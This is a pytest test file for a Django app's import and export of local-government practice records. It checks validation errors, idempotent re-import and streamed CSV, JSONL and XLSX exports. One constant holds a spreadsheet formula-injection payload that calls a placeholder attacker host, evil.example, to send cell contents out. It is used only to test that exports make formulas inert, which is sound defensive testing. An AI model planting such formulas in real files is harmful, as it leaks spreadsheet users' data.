"""Import is all or nothing with line-numbered errors, re-import is idempotent, and export
round-trips."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command

from ponte.directory.models import LocalGovernment
from ponte.knowledge import transfer
from ponte.knowledge.models import Item, Revision

pytestmark = pytest.mark.django_db

ROWS = [
    {
        "title": "Waste bank",
        "summary": "Savings from sorted waste.",
        "body": "## Context\n\nText.",
        "language": "en",
        "city": "Surabaya",
        "country": "ID",
        "themes": ["waste"],
        "sdg_targets": ["12.5"],
        "status": "published",
        "results": [
            {
                "indicator": "Landfill",
                "unit": "t/day",
                "baseline": 1500,
                "target": 1200,
                "achieved": 1250.5,
            }
        ],
    },
    {
        "title": "Orçamento participativo",
        "summary": "Moradores decidem investimentos.",
        "body": "",
        "language": "pt",
        "city": "Porto Alegre",
        "country": "BR",
        "themes": ["governance", "local-finance"],
        "sdg_targets": ["16.7"],
        "status": "draft",
    },
    {
        "title": "Agricultura urbana",
        "summary": "Huertas comunitarias en terrenos baldíos.",
        "language": "es",
        "city": "Rosario",
        "country": "AR",
        "themes": ["food-security"],
        "sdg_targets": [],
        "status": "submitted",
    },
]


def _jsonl(rows: list[dict]) -> str:
    return "".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows)


def _write(tmp_path: Path, name: str, text: str) -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def test_import_creates_items_and_local_governments_from_geonames(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _write(tmp_path, "practices.jsonl", _jsonl(ROWS))
    call_command("import", "practices", str(path))
    assert Item.objects.count() == 3
    waste = Item.objects.get(title="Waste bank")
    assert waste.owner.name == "Surabaya" and waste.status == "published" and waste.published_at
    assert waste.results.get().achieved == pytest.approx(1250.5)
    assert set(LocalGovernment.objects.values_list("name", flat=True)) == {
        "Surabaya",
        "Porto Alegre",
        "Rosario",
    }
    assert "3 created" in capsys.readouterr().out


def test_city_names_as_people_write_them(tmp_path: Path) -> None:
    rows = [
        {**ROWS[0], "city": "SURABAYA"},
        {**ROWS[1], "city": "porto alegre"},
        {**ROWS[2], "city": "Rosário"},
    ]
    call_command("import", "practices", str(_write(tmp_path, "p.jsonl", _jsonl(rows))))
    assert LocalGovernment.objects.count() == 3


def test_one_bad_row_rejects_the_whole_file_with_every_problem_by_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = [
        ROWS[0],
        {**ROWS[1], "themes": ["governance", "astrology"], "sdg_targets": ["16.99"]},
        {**ROWS[2], "city": "Atlantis"},
        {"summary": "no title", "city": "Recife", "country": "BR", "status": "live"},
    ]
    text = _jsonl(rows) + "{broken json\n"
    path = _write(tmp_path, "bad.jsonl", text)
    with pytest.raises(CommandError, match="nothing was imported"):
        call_command("import", "practices", str(path))
    err = capsys.readouterr().err
    assert f"{path}:2: unknown themes: astrology" in err
    assert f"{path}:2: unknown sdg targets: 16.99" in err
    assert f"{path}:3: no city called 'Atlantis' in AR" in err
    assert f"{path}:4: title is required" in err
    assert f"{path}:4: status 'live' is not one of" in err
    assert f"{path}:5: not valid JSON" in err
    assert f"{path}:1:" not in err
    assert (
        Item.objects.count() == 0
        and LocalGovernment.objects.count() == 0
        and Revision.objects.count() == 0
    )


def test_csv_errors_name_the_physical_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    text = (
        "title,summary,body,language,city,country,themes,sdg_targets,status\n"
        'Waste bank,Savings,"multi\nline body",en,Surabaya,ID,waste,12.5,draft\n'
        "Bad row,Summary,,en,Surabaya,ZZ,waste,,draft\n"
    )
    with pytest.raises(CommandError):
        call_command("import", "practices", str(_write(tmp_path, "p.csv", text)))
    assert ":4: country 'ZZ' is not an ISO 3166 alpha-2 code" in capsys.readouterr().err
    assert Item.objects.count() == 0


def test_reimport_updates_instead_of_duplicating(tmp_path: Path) -> None:
    path = _write(tmp_path, "p.jsonl", _jsonl(ROWS))
    call_command("import", "practices", str(path))
    first_ids = set(Item.objects.values_list("pk", flat=True))
    changed = [{**ROWS[0], "summary": "Updated summary."}, *ROWS[1:]]
    call_command("import", "practices", str(_write(tmp_path, "p2.jsonl", _jsonl(changed))))
    assert set(Item.objects.values_list("pk", flat=True)) == first_ids
    assert Item.objects.get(title="Waste bank").summary == "Updated summary."
    assert LocalGovernment.objects.count() == 3
    assert Item.objects.get(title="Waste bank").revisions.count() == 2


def test_duplicate_rows_in_one_file_are_reported(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(CommandError):
        call_command(
            "import", "practices", str(_write(tmp_path, "p.jsonl", _jsonl([ROWS[0], ROWS[0]])))
        )
    assert ":2: duplicates line 1" in capsys.readouterr().err


def test_missing_file_and_empty_file_are_clear_errors(tmp_path: Path) -> None:
    with pytest.raises(CommandError, match="Cannot read"):
        call_command("import", "practices", str(tmp_path / "nope.jsonl"))
    with pytest.raises(CommandError):
        call_command("import", "practices", str(_write(tmp_path, "empty.jsonl", "")))


def _export(fmt: str, tmp_path: Path) -> bytes:
    out = tmp_path / f"export.{fmt}"
    call_command("export", "practices", "--format", fmt, "--output", str(out))
    return out.read_bytes()


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_export_then_import_into_an_empty_database_round_trips(tmp_path: Path, fmt: str) -> None:
    call_command("import", "practices", str(_write(tmp_path, "p.jsonl", _jsonl(ROWS))))
    first = _export(fmt, tmp_path)
    Item.objects.all().delete()
    LocalGovernment.objects.all().delete()
    path = tmp_path / f"again.{fmt}"
    path.write_bytes(first)
    call_command("import", "practices", str(path))
    assert _export(fmt, tmp_path) == first
    assert Item.objects.count() == 3


def test_xlsx_export_has_every_row(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    call_command("import", "practices", str(_write(tmp_path, "p.jsonl", _jsonl(ROWS))))
    sheet = load_workbook(io.BytesIO(_export("xlsx", tmp_path))).active
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == transfer.FIELDS
    assert {row[2] for row in rows[1:]} == {
        "Waste bank",
        "Orçamento participativo",
        "Agricultura urbana",
    }


def test_export_api_shows_only_what_the_reader_may_see(client: object, tmp_path: Path) -> None:
    call_command("import", "practices", str(_write(tmp_path, "p.jsonl", _jsonl(ROWS))))
    response = client.get("/api/v1/items/export", {"format": "jsonl"})  # type: ignore[attr-defined]
    titles = [json.loads(line)["title"] for line in _body(response).decode().splitlines()]
    assert titles == ["Waste bank"]
    assert client.get("/api/v1/items/export", {"format": "pdf"}).status_code == 400  # type: ignore[attr-defined]


def test_imported_published_items_become_searchable(
    tmp_path: Path, client: object, django_capture_on_commit_callbacks
) -> None:  # type: ignore[no-untyped-def]
    with django_capture_on_commit_callbacks(execute=True):
        call_command("import", "practices", str(_write(tmp_path, "p.jsonl", _jsonl(ROWS))))
    hits = client.get("/api/v1/search", {"q": "waste bank savings", "type": "practice"}).json()[
        "results"
    ]  # type: ignore[attr-defined]
    assert [hit["title"] for hit in hits] == ["Waste bank"]  # drafts and submitted items stay out


def _rejected(path: Path, capsys: pytest.CaptureFixture[str]) -> str:
    """Import a file that must be refused: a CommandError (exit 1 from `ponte`) and nothing
    written; the problems printed by line."""
    with pytest.raises(CommandError, match="nothing was imported"):
        call_command("import", "practices", str(path))
    assert Item.objects.count() == 0 and LocalGovernment.objects.count() == 0
    return capsys.readouterr().err


@pytest.mark.parametrize(
    ("target", "expected"),
    [
        (1e30, "result 1, target: Ensure that there are no more than 18 digits in total."),
        ("1e999", "result 1, target: Ensure that there are no more than 18 digits in total."),
        ("0.00001", "result 1, target: Ensure that there are no more than 4 decimal places."),
        ("abc", "result 1, target: “abc” value must be a decimal number."),
    ],
)
def test_a_result_the_column_cannot_hold_is_refused_and_pages_keep_working(
    client: object,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    target: object,
    expected: str,
) -> None:
    row = {**ROWS[0], "results": [{"indicator": "Landfill", "unit": "t", "target": target}]}
    err = _rejected(_write(tmp_path, "p.jsonl", _jsonl([row])), capsys)
    assert expected.lower() in err.lower()
    assert client.get("/api/v1/items/export?format=csv").status_code == 200  # type: ignore[attr-defined]
    assert client.get("/api/v1/items").status_code == 200  # type: ignore[attr-defined]


def test_a_nan_result_is_a_message_not_a_traceback(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    line = json.dumps({**ROWS[0], "results": [{"indicator": "x", "unit": "t"}]})
    line = line.replace('"unit": "t"', '"unit": "t", "achieved": NaN')
    err = _rejected(_write(tmp_path, "p.jsonl", line + "\n"), capsys)
    assert ":1: result 1, achieved:" in err.lower()


def test_an_external_id_longer_than_its_column_is_refused_on_every_database(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    row = {**ROWS[0], "external_id": "x" * 5000}
    err = _rejected(_write(tmp_path, "p.jsonl", _jsonl([row])), capsys)
    assert ":1: external_id: Ensure this value has at most 200 characters (it has 5000)." in err


def test_json_nested_too_deeply_is_a_message_not_a_traceback(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    deep = '{"title": ' + "[" * 100_000 + "]" * 100_000 + "}\n"
    err = _rejected(_write(tmp_path, "p.jsonl", _jsonl([ROWS[0]]) + deep), capsys)
    assert ":2: the JSON is nested too deeply to read" in err
    csv_deep = (
        "title,summary,language,city,country,results\n"
        f'Waste bank,Savings,en,Surabaya,ID,"{"[" * 100_000}"\n'
    )
    err = _rejected(_write(tmp_path, "p.csv", csv_deep), capsys)
    assert ":2: results is not a JSON list" in err


def test_a_csv_field_over_the_readers_limit_is_a_message_not_a_traceback(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    text = (
        "title,summary,body,language,city,country\n"
        f'Waste bank,Savings,"{"x" * 200_000}",en,Surabaya,ID\n'
    )
    err = _rejected(_write(tmp_path, "p.csv", text), capsys)
    assert ":2: cannot read the CSV from here on (field larger than field limit" in err


def test_a_nul_character_is_refused_before_it_reaches_the_database(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    err = _rejected(
        _write(tmp_path, "p.jsonl", _jsonl([{**ROWS[0], "title": "Waste\x00bank"}])), capsys
    )
    assert ":1: contains a NUL character" in err


EVIL = '=HYPERLINK("https://evil.example/?x="&A1,"click")'


def _import(tmp_path: Path, rows: list[dict]) -> None:
    call_command("import", "practices", str(_write(tmp_path, "p.jsonl", _jsonl(rows))))


def _body(response: object) -> bytes:
    assert response.status_code == 200  # type: ignore[attr-defined]
    return b"".join(response.streaming_content)  # type: ignore[attr-defined]


def test_public_csv_and_xlsx_exports_make_formulas_inert(client: object, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    _import(tmp_path, [{**ROWS[0], "title": EVIL, "summary": "@SUM(A1:A9)"}])
    rows = list(
        csv.reader(io.StringIO(_body(client.get("/api/v1/items/export?format=csv")).decode()))
    )  # type: ignore[attr-defined]
    assert (rows[1][2], rows[1][3]) == ("'" + EVIL, "'@SUM(A1:A9)")
    response = client.get("/api/v1/items/export?format=xlsx")  # type: ignore[attr-defined]
    sheet = load_workbook(io.BytesIO(_body(response))).active
    title, summary = list(sheet.iter_rows(min_row=2))[0][2:4]
    assert title.data_type != "f" and title.value == "'" + EVIL
    assert summary.data_type != "f" and summary.value == "'@SUM(A1:A9)"


def test_formula_like_text_survives_an_export_and_import_round_trip(tmp_path: Path) -> None:
    rows = [{**ROWS[0], "title": EVIL, "body": "- first\n- second", "lessons": "'=kept"}]
    _import(tmp_path, rows)
    first = _export("csv", tmp_path)
    assert list(csv.reader(io.StringIO(first.decode())))[1][2] == "'" + EVIL
    Item.objects.all().delete()
    path = tmp_path / "again.csv"
    path.write_bytes(first)
    call_command("import", "practices", str(path))
    item = Item.objects.get()
    assert (item.title, item.body, item.lessons) == (EVIL, "- first\n- second", "'=kept")
    assert _export("csv", tmp_path) == first


GOLDEN_JSONL = (
    '{"external_id": "key:4e4f8a63cdeba2296ab8530de72f4ed8", "type": "practice", "title": "Waste bank", '
    '"summary": "Savings from sorted waste.", "body": "- first\\n- second, with \\"quotes\\"\\n\\n=not a formula here", '
    '"language": "en", "city": "Surabaya", "country": "ID", "network": "", "themes": ["waste"], '
    '"sdg_targets": ["12.5"], "hazards": ["flood"], "status": "published", "period_start": null, '
    '"period_end": null, "cost_band": "", "barriers": "", "enabling_factors": "", "lessons": "", '
    '"results": [{"indicator": "Landfill", "unit": "t/day", "baseline": "1500", "target": "1200", '
    '"achieved": "1250.5"}]}\n'
)
# What the export wrote before it was streamed, but for the apostrophe now in front of the
# body, which begins with "-".
GOLDEN_CSV = (
    "external_id,type,title,summary,body,language,city,country,network,themes,sdg_targets,hazards,"
    "status,period_start,period_end,cost_band,barriers,enabling_factors,lessons,results\r\n"
    "key:4e4f8a63cdeba2296ab8530de72f4ed8,practice,Waste bank,Savings from sorted waste.,\"'- first\n"
    '- second, with ""quotes""\n\n=not a formula here",en,Surabaya,ID,,waste,12.5,flood,published,,,,,,,'
    '"[{""indicator"": ""Landfill"", ""unit"": ""t/day"", ""baseline"": ""1500"", ""target"": ""1200"", '
    '""achieved"": ""1250.5""}]"\r\n'
)


@pytest.mark.parametrize(("fmt", "golden"), [("jsonl", GOLDEN_JSONL), ("csv", GOLDEN_CSV)])
def test_public_export_is_streamed_and_its_content_unchanged(
    client: object, tmp_path: Path, fmt: str, golden: str
) -> None:
    body = '- first\n- second, with "quotes"\n\n=not a formula here'
    _import(tmp_path, [{**ROWS[0], "body": body, "hazards": ["flood"]}, *ROWS[1:]])
    response = client.get("/api/v1/items/export", {"format": fmt})  # type: ignore[attr-defined]
    assert response.streaming
    assert response["Content-Disposition"] == f'attachment; filename="ponte-practices.{fmt}"'
    assert _body(response).decode() == golden  # the drafts stay out


def test_export_reads_the_items_while_it_is_sent_a_batch_at_a_time(
    client: object, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    _import(tmp_path, [{**row, "status": "published"} for row in ROWS])
    monkeypatch.setattr(transfer, "EXPORT_BATCH", 2)
    response = client.get("/api/v1/items/export", {"format": "csv"})  # type: ignore[attr-defined]
    with CaptureQueriesContext(connection) as queries:
        rows = list(csv.reader(io.StringIO(_body(response).decode())))
    assert len(rows) == 4
    sql = [query["sql"] for query in queries]
    # The items are read only as the response is sent, and their themes two items at a time.
    assert any('FROM "knowledge_item"' in statement for statement in sql)
    assert len([s for s in sql if 'FROM "directory_theme"' in s]) == 2


def test_xlsx_export_is_refused_past_its_row_limit(
    client: object, tmp_path: Path, settings: object
) -> None:
    _import(tmp_path, [{**row, "status": "published"} for row in ROWS])
    settings.PONTE_EXPORT_XLSX_MAX_ROWS = 2  # type: ignore[attr-defined]
    response = client.get("/api/v1/items/export", {"format": "xlsx"})  # type: ignore[attr-defined]
    assert response.status_code == 400
    assert response["Content-Type"] == "application/problem+json"
    assert "at most 2 rows and this one would have 3" in response.json()["detail"]
    settings.PONTE_EXPORT_XLSX_MAX_ROWS = 3  # type: ignore[attr-defined]
    assert client.get("/api/v1/items/export", {"format": "xlsx"}).status_code == 200  # type: ignore[attr-defined]
